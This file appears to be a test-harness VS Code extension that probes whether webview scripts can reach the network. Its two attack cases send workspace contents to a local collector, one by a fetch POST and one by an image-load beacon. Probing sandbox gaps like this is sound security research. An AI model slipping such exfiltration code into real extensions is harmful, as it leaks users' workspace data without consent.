// The browser is not in a compartment: the network of a webview's scripts is the user's.
"use strict";
const { attack } = require("./attack");

const page = (vscode, options, body) =>
  new Promise((resolve) => {
    const panel = vscode.window.createWebviewPanel("proof", "Proof", { viewColumn: vscode.ViewColumn.Active, preserveFocus: true }, { enableScripts: true, ...options });
    panel.webview.onDidReceiveMessage((message) => {
      resolve(message);
      panel.dispose();
    });
    panel.webview.html = `<!doctype html><html><body><script>const api = acquireVsCodeApi();(async () => {${body(panel.webview)}})().then((value) => api.postMessage(String(value)), (error) => api.postMessage("error: " + error));</script></body></html>`;
  });

exports.activate = (context) =>
  attack(context, "webview-network", {
    exfiltrate: ({ collector, mark, workspace }, vscode) =>
      page(vscode, {}, () => `await fetch("http://127.0.0.1:${collector}/${mark}", { method: "POST", mode: "no-cors", body: ${JSON.stringify(workspace)} }); return "sent";`),
    image: ({ collector, mark }, vscode) =>
      page(vscode, { enableScripts: true }, () =>
        `const image = new Image(); image.src = "http://127.0.0.1:${collector}/${mark}"; document.body.append(image); await new Promise((resolve) => setTimeout(resolve, 2000)); return "shown";`),
  });
